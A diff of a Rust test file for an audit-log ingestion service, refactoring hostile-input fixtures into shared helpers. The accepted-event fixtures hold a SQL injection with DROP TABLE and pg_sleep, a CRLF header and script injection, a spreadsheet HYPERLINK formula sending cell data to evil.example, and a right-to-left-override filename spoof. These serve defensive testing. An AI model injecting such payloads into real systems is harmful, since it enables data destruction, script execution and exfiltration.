@@ -13,7 +13,7 @@ use crate::stream_ingest::SQL_CANONICAL_HASH;
 
 /// An event JSON document with one field's raw JSON text spliced in, for
 /// inputs serde_json would never produce itself.
-fn raw_event(id: &str, extra: &str) -> Vec<u8> {
+pub fn raw_event(id: &str, extra: &str) -> Vec<u8> {
     format!(
         r#"{{"eventId":"{id}","timestamp":"{}","action":"hostile.test","status":"success"{extra}}}"#,
         ts(5)
@@ -22,7 +22,7 @@ fn raw_event(id: &str, extra: &str) -> Vec<u8> {
 }
 
 /// `n` keys in one custom object.
-fn many_keys(n: usize) -> String {
+pub fn many_keys(n: usize) -> String {
     let mut s = String::with_capacity(n * 12);
     s.push_str(",\"many\":{");
     for i in 0..n {
@@ -35,16 +35,13 @@ fn many_keys(n: usize) -> String {
     s
 }
 
-#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
-async fn hostile_entries_are_dead_lettered_with_stable_codes_or_stored_byte_exact() {
-    let env = TestEnv::new("hostile").await;
-    let mut config = env.config();
-    // An operator who raised the size limit: the parser itself must then
-    // cope with 100,000-key objects and 100,000-deep nesting.
-    config.validation.max_event_bytes = 4 << 20;
-
+/// Inputs that must be refused, each with the reason code it must get:
+/// (what it is, reason, raw bytes). Shared by the stream and BullMQ suites;
+/// assumes `validation.max_event_bytes` raised to 4 MiB, so the parser
+/// itself meets the 100,000-deep array.
+pub fn rejected_cases() -> Vec<(&'static str, &'static str, Vec<u8>)> {
     let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
-    let rejected: Vec<(&str, &str, Vec<u8>)> = vec![
+    vec![
         ("invalid UTF-8", "invalid_json", {
             let mut b = raw_event("x1", r#","note":"ok""#);
             let at = b.len() - 4;
@@ -144,14 +141,17 @@ async fn hostile_entries_are_dead_lettered_with_stable_codes_or_stored_byte_exac
             "too_large",
             vec![b' '; (4 << 20) + 1],
         ),
-    ];
+    ]
+}
 
-    // Accepted as sent: the stored columns must be byte-exact.
+/// Events that must be stored exactly as sent: SQL-looking strings,
+/// header and formula injection, odd Unicode, a month far in the past.
+pub fn accepted_cases() -> Vec<Value> {
     let sql_like = "'); DROP TABLE audit_log; -- $$ \\x00 E'\\\\' /* */ \" ; SELECT pg_sleep(10);";
     let crlf = "ok\r\nX-Injected: 1\r\n\r\n<script>alert(1)</script>";
     let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
     let unicode = "\u{202e}gnp.exe \u{200b}\u{feff} 😀 \u{7f}\u{1b}[31m";
-    let accepted: Vec<Value> = vec![
+    vec![
         json!({"eventId": "ok-sql", "timestamp": ts(1), "action": sql_like, "status": "success",
                "principalId": sql_like, "outcomeDescription": sql_like, "c": {sql_like: sql_like}}),
         json!({"eventId": "ok-crlf", "timestamp": ts(1), "action": crlf, "status": "failure",
@@ -163,7 +163,92 @@ async fn hostile_entries_are_dead_lettered_with_stable_codes_or_stored_byte_exac
         // A month far behind the ones created ahead: its partition is made on
         // demand (through the SECURITY DEFINER function).
         json!({"eventId": "ok-old", "timestamp": "2017-03-01T00:00:00.000+05:30", "action": "a", "status": "success"}),
-    ];
+    ]
+}
+
+/// Every accepted event's hashed and schema columns exactly as sent, the
+/// row re-verifying in SQL alone; the 100,000-key object kept whole and the
+/// integer beyond 64 bits read as JavaScript's JSON.parse reads it.
+pub async fn assert_stored_as_sent(env: &TestEnv, accepted: &[Value]) {
+    for e in accepted {
+        let row = env
+            .pg
+            .query_one(
+                &format!(
+                    "SELECT timestamp_raw, action, status, principal_id, organization_id,
+                            target_resource_type, target_resource_id, outcome_description,
+                            session_context, details, hash = {SQL_CANONICAL_HASH}
+                     FROM audit_log WHERE event_id = $1"
+                ),
+                &[&e["eventId"].as_str().unwrap()],
+            )
+            .await
+            .unwrap();
+        let s = |k: &str| e.get(k).and_then(Value::as_str).map(str::to_string);
+        let id = &e["eventId"];
+        assert_eq!(Some(row.get::<_, String>(0)), s("timestamp"), "{id}");
+        assert_eq!(Some(row.get::<_, String>(1)), s("action"), "{id}");
+        assert_eq!(Some(row.get::<_, String>(2)), s("status"), "{id}");
+        assert_eq!(row.get::<_, Option<String>>(3), s("principalId"), "{id}");
+        assert_eq!(row.get::<_, Option<String>>(4), s("organizationId"), "{id}");
+        assert_eq!(
+            row.get::<_, Option<String>>(5),
+            s("targetResourceType"),
+            "{id}"
+        );
+        assert_eq!(
+            row.get::<_, Option<String>>(6),
+            s("targetResourceId"),
+            "{id}"
+        );
+        assert_eq!(
+            row.get::<_, Option<String>>(7),
+            s("outcomeDescription"),
+            "{id}"
+        );
+        assert_eq!(
+            row.get::<_, Option<Value>>(8).as_ref(),
+            e.get("sessionContext"),
+            "{id}"
+        );
+        assert_eq!(
+            row.get::<_, Option<Value>>(9),
+            e.get("c").map(|c| json!({"c": c})),
+            "{id}"
+        );
+        assert!(
+            row.get::<_, bool>(10),
+            "{id}: stored row re-hashes to its hash"
+        );
+    }
+    let (keys, big): (i64, String) = env
+        .pg
+        .query_one(
+            "SELECT (SELECT count(*) FROM audit_log, jsonb_object_keys(details->'many') WHERE event_id = 'ok-many'),
+                    (SELECT details->>'n' FROM audit_log WHERE event_id = 'ok-bigint')",
+            &[],
+        )
+        .await
+        .map(|r| (r.get(0), r.get(1)))
+        .unwrap();
+    assert_eq!(keys, 100_000);
+    assert_eq!(
+        big, "18446744073709552000",
+        "a double, as JSON.parse reads it"
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn hostile_entries_are_dead_lettered_with_stable_codes_or_stored_byte_exact() {
+    let env = TestEnv::new("hostile").await;
+    let mut config = env.config();
+    // An operator who raised the size limit: the parser itself must then
+    // cope with 100,000-key objects and 100,000-deep nesting.
+    config.validation.max_event_bytes = 4 << 20;
+
+    let rejected = rejected_cases();
+    // Accepted as sent: the stored columns must be byte-exact.
+    let accepted = accepted_cases();
     // 100,000 keys: allowed under the raised limit, kept whole in details.
     let many = raw_event("ok-many", &many_keys(100_000));
     // Integers beyond 64 bits become doubles, as in JavaScript's JSON.parse.
@@ -257,74 +342,7 @@ async fn hostile_entries_are_dead_lettered_with_stable_codes_or_stored_byte_exac
     assert_eq!(long_name_letter["data"], long_name_data);
     assert_eq!(long_name_letter["name"], long_name.as_bytes());
 
-    // Accepted events: every hashed and schema column exactly as sent, and
-    // the row re-verifies in SQL alone.
-    for e in &accepted {
-        let row = env
-            .pg
-            .query_one(
-                &format!(
-                    "SELECT timestamp_raw, action, status, principal_id, organization_id,
-                            target_resource_type, target_resource_id, outcome_description,
-                            session_context, details, hash = {SQL_CANONICAL_HASH}
-                     FROM audit_log WHERE event_id = $1"
-                ),
-                &[&e["eventId"].as_str().unwrap()],
-            )
-            .await
-            .unwrap();
-        let s = |k: &str| e.get(k).and_then(Value::as_str).map(str::to_string);
-        let id = &e["eventId"];
-        assert_eq!(Some(row.get::<_, String>(0)), s("timestamp"), "{id}");
-        assert_eq!(Some(row.get::<_, String>(1)), s("action"), "{id}");
-        assert_eq!(Some(row.get::<_, String>(2)), s("status"), "{id}");
-        assert_eq!(row.get::<_, Option<String>>(3), s("principalId"), "{id}");
-        assert_eq!(row.get::<_, Option<String>>(4), s("organizationId"), "{id}");
-        assert_eq!(
-            row.get::<_, Option<String>>(5),
-            s("targetResourceType"),
-            "{id}"
-        );
-        assert_eq!(
-            row.get::<_, Option<String>>(6),
-            s("targetResourceId"),
-            "{id}"
-        );
-        assert_eq!(
-            row.get::<_, Option<String>>(7),
-            s("outcomeDescription"),
-            "{id}"
-        );
-        assert_eq!(
-            row.get::<_, Option<Value>>(8).as_ref(),
-            e.get("sessionContext"),
-            "{id}"
-        );
-        assert_eq!(
-            row.get::<_, Option<Value>>(9),
-            e.get("c").map(|c| json!({"c": c})),
-            "{id}"
-        );
-        assert!(
-            row.get::<_, bool>(10),
-            "{id}: stored row re-hashes to its hash"
-        );
-    }
-    let (keys, big): (i64, String) = env
-        .pg
-        .query_one(
-            "SELECT (SELECT count(*) FROM audit_log, jsonb_object_keys(details->'many') WHERE event_id = 'ok-many'),
-                    (SELECT details->>'n' FROM audit_log WHERE event_id = 'ok-bigint')",
-            &[],
-        )
-        .await
-        .map(|r| (r.get(0), r.get(1)))
-        .unwrap();
-    assert_eq!(keys, 100_000);
-    assert_eq!(
-        big, "18446744073709552000",
-        "a double, as JSON.parse reads it"
-    );
+    assert_stored_as_sent(&env, &accepted).await;
     let tables: Vec<String> = env
         .pg
         .query(
@@ -344,7 +362,7 @@ async fn hostile_entries_are_dead_lettered_with_stable_codes_or_stored_byte_exac
 }
 
 /// Peak resident memory (VmHWM) and current (VmRSS) of a process, in KiB.
-fn memory_kib(pid: u32) -> (u64, u64) {
+pub fn memory_kib(pid: u32) -> (u64, u64) {
     let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap_or_default();
     let field = |name: &str| {
         status
